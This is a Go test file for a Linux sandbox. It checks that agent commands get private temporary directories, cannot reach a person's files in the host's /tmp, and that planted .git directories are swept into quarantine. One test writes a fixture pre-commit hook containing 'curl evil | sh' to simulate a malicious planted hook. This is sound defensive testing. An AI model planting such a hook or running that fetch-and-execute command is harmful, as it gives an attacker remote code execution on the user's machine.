//go:build linux

package sandbox

import (
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/wardenhq/warden/internal/wardenhome"
)

// hostTemp makes a directory in the host's /tmp, as a person's own files
// there, removed at the end of the test.
func hostTemp(t *testing.T, pattern string) string {
	t.Helper()
	d, err := os.MkdirTemp("/tmp", pattern)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(d) })
	return d
}

// mustNotExist fails the test when path exists on the host.
func mustNotExist(t *testing.T, path string) {
	t.Helper()
	if _, err := os.Lstat(path); err == nil {
		t.Errorf("%s exists on the host after the command", path)
		os.RemoveAll(path)
	}
}

// The temporary directories a workspace-write command writes to are its
// own (SPEC G16): it writes /tmp, /dev/shm and $TMPDIR freely, nothing of
// it is on the host afterwards, and the person's files in the host's /tmp
// are out of its reach — it does not see them, so a hook cannot be
// planted in their repository there, nor a .git made that outlives the
// run.
func TestG16_TempIsPrivate(t *testing.T) {
	requireView(t)
	t.Setenv(wardenhome.EnvHome, mkdir(t, scratch(t), "warden-home"))
	person := hostTemp(t, "person-repo-")
	hook := writeFile(t, filepath.Join(person, ".git", "hooks", "pre-commit"), "#!/bin/sh\nexit 0\n")
	secret := writeFile(t, filepath.Join(person, "notes.txt"), "mine\n")
	name := filepath.Base(person)
	mine := "/tmp/" + name + "-agent"    // made by the command
	shm := "/dev/shm/" + name + "-agent" // likewise
	w := repo(t)
	p := Policy{Mode: WorkspaceWrite, Workdir: w}
	expect(t, p, [][2]string{
		{"write|" + hook, "errno=ENOENT"},  // not visible, so not writable
		{"read|" + secret, "errno=ENOENT"}, // nor readable
		{"mkdir|" + person, "ok"},          // the command's own, at the same name
		{"mkdir|" + person + "/.git", "ok"},
		{"mkdir|" + person + "/.git/hooks", "ok"},
		{"write|" + hook, "ok"}, // a hook of its own
		{"write|" + person + "/.git/config", "ok"},
		{"write|" + secret, "ok"},
		{"write|" + mine, "ok"},
		{"write|" + shm, "ok"},
		{"read|" + mine, "ok"},
		{"write|" + filepath.Join(w, "out"), "ok"}, // the workspace as ever
	})
	if data, err := os.ReadFile(hook); err != nil || string(data) != "#!/bin/sh\nexit 0\n" {
		t.Errorf("the person's hook is %q (%v), want it unchanged", data, err)
	}
	if _, err := os.Stat(filepath.Join(person, ".git", "config")); err == nil {
		t.Error("a .git/config the command wrote is in the person's repository")
	}
	expect(t, p, [][2]string{{"remove|" + secret, "errno=ENOENT"}})
	if data, err := os.ReadFile(secret); err != nil || string(data) != "mine\n" {
		t.Errorf("the person's notes: %q, %v", data, err)
	}
	if _, err := os.Stat(hook); err != nil {
		t.Errorf("the person's hook: %v", err)
	}
	mustNotExist(t, mine)
	mustNotExist(t, shm)
	if _, err := os.Stat(filepath.Join(w, "out")); err != nil {
		t.Errorf("the workspace write: %v", err)
	}
	// A .git above every temporary workdir (the issue's $TMPDIR/.git,
	// which a plain git status in /tmp/warden-… would have found).
	if _, err := os.Lstat("/tmp/.git"); os.IsNotExist(err) {
		expect(t, p, [][2]string{{"mkdir|/tmp/.git", "ok"}, {"write|/tmp/.git/config", "ok"}})
		mustNotExist(t, "/tmp/.git")
	}
	// Without a TempDir, every command starts with empty ones.
	expect(t, p, [][2]string{{"read|" + mine, "errno=ENOENT"}})
	// Read-only commands write none.
	expect(t, Policy{Mode: ReadOnly, Workdir: w}, [][2]string{{"write|" + mine, outsideErrno()}})
}

// With Policy.TempDir, the run's commands share their private temporary
// directories, kept there (not in the host's) until the caller removes
// them with the run.
func TestG16_RunTempDirKept(t *testing.T) {
	requireView(t)
	home := mkdir(t, scratch(t), "warden-home")
	t.Setenv(wardenhome.EnvHome, home)
	run1 := filepath.Join(home, "tmp", "run-1")
	w := repo(t)
	p := Policy{Mode: WorkspaceWrite, Workdir: w, TempDir: run1}
	name := "/tmp/" + filepath.Base(w) + "-" + filepath.Base(filepath.Dir(w))
	expect(t, p, [][2]string{{"write|" + name, "ok"}, {"write|/dev/shm/x", "ok"}})
	mustNotExist(t, name)
	expect(t, p, [][2]string{{"read|" + name, "ok"}, {"read|/dev/shm/x", "ok"}})
	if _, err := os.Stat(filepath.Join(run1, "tmp", filepath.Base(name))); err != nil {
		t.Errorf("not kept in the run's directory: %v", err)
	}
	other := Policy{Mode: WorkspaceWrite, Workdir: w, TempDir: filepath.Join(home, "tmp", "run-2")}
	expect(t, other, [][2]string{{"read|" + name, "errno=ENOENT"}})
	// The run's directory is hidden from its own commands by its path,
	// like the rest of warden's state.
	expect(t, p, [][2]string{{"read|" + filepath.Join(run1, "tmp", filepath.Base(name)), "errno=EACCES"}})
}

// A workspace and a writable root under /tmp (tests' t.TempDir, a
// temporary workdir) stay visible and writable at their own paths, their
// protected paths read-only, while the rest of the host's /tmp is covered;
// a $TMPDIR inside the workspace is the workspace's.
func TestG16_WorkspaceUnderTmp(t *testing.T) {
	requireView(t)
	t.Setenv(wardenhome.EnvHome, mkdir(t, scratch(t), "warden-home"))
	base := hostTemp(t, "ws-under-tmp-")
	w := mkdir(t, base, "work")
	writeFile(t, filepath.Join(w, ".git", "config"), "[core]\n")
	extra := mkdir(t, base, "extra")
	sibling := writeFile(t, filepath.Join(base, "sibling.txt"), "person\n")
	tmpdir := mkdir(t, w, "tmp")
	t.Setenv("TMPDIR", tmpdir)
	p := Policy{Mode: WorkspaceWrite, Workdir: w, WritableRoots: []string{extra}}
	expect(t, p, [][2]string{
		{"write|" + filepath.Join(w, "a"), "ok"},
		{"write|" + filepath.Join(extra, "b"), "ok"},
		{"write|" + filepath.Join(tmpdir, "c"), "ok"},
		{"append|" + filepath.Join(w, ".git", "config"), "errno=EROFS"},
		{"read|" + sibling, "errno=ENOENT"},
		{"write|" + sibling, "ok"}, // a new, private file
		{"write|/tmp/" + filepath.Base(base) + "-x", "ok"},
	})
	for _, f := range []string{filepath.Join(w, "a"), filepath.Join(extra, "b"), filepath.Join(tmpdir, "c")} {
		if _, err := os.Stat(f); err != nil {
			t.Errorf("%s: %v", f, err)
		}
	}
	mustNotExist(t, "/tmp/"+filepath.Base(base)+"-x")
	if data, _ := os.ReadFile(sibling); string(data) != "person\n" {
		t.Errorf("the person's file beside the workspace = %q", data)
	}
	if data, _ := os.ReadFile(filepath.Join(w, ".git", "config")); string(data) != "[core]\n" {
		t.Errorf(".git/config = %q", data)
	}
}

// The attack on the sweep: a link the command makes in the workspace to a
// person's repository under the host's /tmp must not make the sweep take
// the person's .git for one the command created; nor must a .git the
// command makes through it (in its private /tmp) reach the host.
func TestG16_SweepFollowsNoLink(t *testing.T) {
	requireView(t)
	home := mkdir(t, scratch(t), "warden-home")
	t.Setenv(wardenhome.EnvHome, home)
	person := hostTemp(t, "person-")
	hook := writeFile(t, filepath.Join(person, ".git", "hooks", "pre-commit"), "#!/bin/sh\n")
	other := hostTemp(t, "person-other-")
	w := repo(t)
	symlink(t, other, filepath.Join(w, "cache")) // the person's own link
	p := Policy{Mode: WorkspaceWrite, Workdir: w}
	watch, err := p.Watch()
	if err != nil {
		t.Fatal(err)
	}
	expect(t, p, [][2]string{
		{"symlink|" + person + "|" + filepath.Join(w, "link"), "ok"},
		{"mkdir|" + other, "ok"},
		{"mkdir|" + filepath.Join(w, "cache", ".git"), "ok"}, // in the private /tmp
	})
	moved, err := watch.Sweep()
	if err != nil {
		t.Fatal(err)
	}
	if len(moved) != 0 {
		t.Errorf("swept %v, want nothing", moved)
	}
	if data, err := os.ReadFile(hook); err != nil || string(data) != "#!/bin/sh\n" {
		t.Errorf("the person's .git: %q, %v", data, err)
	}
	mustNotExist(t, filepath.Join(other, ".git"))
	if entries, _ := os.ReadDir(filepath.Join(home, "quarantine")); len(entries) != 0 {
		t.Errorf("quarantine holds %d entries", len(entries))
	}
}

// The sweep tells what the command created by identity, not by name: a
// pre-existing .git renamed (with a directory above it, or itself) stays
// where it now is, and a new .git made at the name of one that existed is
// moved away. Done from this process, as a command without namespaces
// could (with them, an existing .git is a mount point and cannot be
// renamed).
func TestG16_SweepByIdentity(t *testing.T) {
	t.Setenv(wardenhome.EnvHome, mkdir(t, scratch(t), "warden-home"))
	w := mkdir(t, scratch(t), "work")
	writeFile(t, filepath.Join(w, ".git", "HEAD"), "ref: refs/heads/main\n")
	writeFile(t, filepath.Join(w, "vendor", "lib", ".git", "HEAD"), "person\n")
	writeFile(t, filepath.Join(w, "mod", ".git"), "gitdir: ../.git\n")
	watch, err := Policy{Mode: WorkspaceWrite, Workdir: w}.Watch()
	if err != nil {
		t.Fatal(err)
	}
	// The command: the top .git renamed away and a new one made there;
	// vendor/lib renamed with its .git; mod/.git moved to another name.
	if err := os.Rename(filepath.Join(w, ".git"), filepath.Join(w, "old-git")); err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(w, ".git", "hooks", "pre-commit"), "#!/bin/sh\ncurl evil | sh\n")
	if err := os.Rename(filepath.Join(w, "vendor", "lib"), filepath.Join(w, "vendor", "lib2")); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(filepath.Join(w, "mod", ".git"), filepath.Join(w, "mod", ".agents")); err != nil {
		t.Fatal(err)
	}
	moved, err := watch.Sweep()
	if err != nil {
		t.Fatal(err)
	}
	if len(moved) != 1 || moved[0].Path != filepath.Join(w, ".git") {
		t.Fatalf("swept %v, want only the new %s", moved, filepath.Join(w, ".git"))
	}
	if data, err := os.ReadFile(filepath.Join(moved[0].To, "hooks", "pre-commit")); err != nil || !strings.Contains(string(data), "evil") {
		t.Errorf("the quarantined .git: %q, %v", data, err)
	}
	for path, want := range map[string]string{
		filepath.Join(w, "old-git", "HEAD"):                "ref: refs/heads/main\n",
		filepath.Join(w, "vendor", "lib2", ".git", "HEAD"): "person\n",
		filepath.Join(w, "mod", ".agents"):                 "gitdir: ../.git\n",
	} {
		if data, err := os.ReadFile(path); err != nil || string(data) != want {
			t.Errorf("%s = %q, %v; want it untouched", path, data, err)
		}
	}
}

// The run's commands may run at the same time (parallel calls): they share
// the private directories, and what each writes is there for the next.
func TestG16_RunTempDirConcurrent(t *testing.T) {
	requireView(t)
	home := mkdir(t, scratch(t), "warden-home")
	t.Setenv(wardenhome.EnvHome, home)
	w := repo(t)
	p := Policy{Mode: WorkspaceWrite, Workdir: w, TempDir: filepath.Join(home, "tmp", "run")}
	prefix := "/tmp/" + filepath.Base(filepath.Dir(w)) + "-"
	done := make(chan []string, 4)
	for i := range 4 {
		go func() {
			exe, _ := os.Executable()
			cmd, err := p.Command(t.Context(), exe, "write|"+prefix+strconv.Itoa(i))
			if err != nil {
				done <- []string{err.Error()}
				return
			}
			cmd.Env = childEnv()
			out, err := cmd.CombinedOutput()
			if err != nil {
				done <- []string{err.Error() + ": " + string(out)}
				return
			}
			done <- strings.Fields(string(out))
		}()
	}
	for range 4 {
		if got := <-done; len(got) != 1 || got[0] != "ok" {
			t.Errorf("a concurrent command: %v", got)
		}
	}
	var ops [][2]string
	for i := range 4 {
		ops = append(ops, [2]string{"read|" + prefix + strconv.Itoa(i), "ok"})
		defer mustNotExist(t, prefix+strconv.Itoa(i))
	}
	expect(t, p, ops)
}
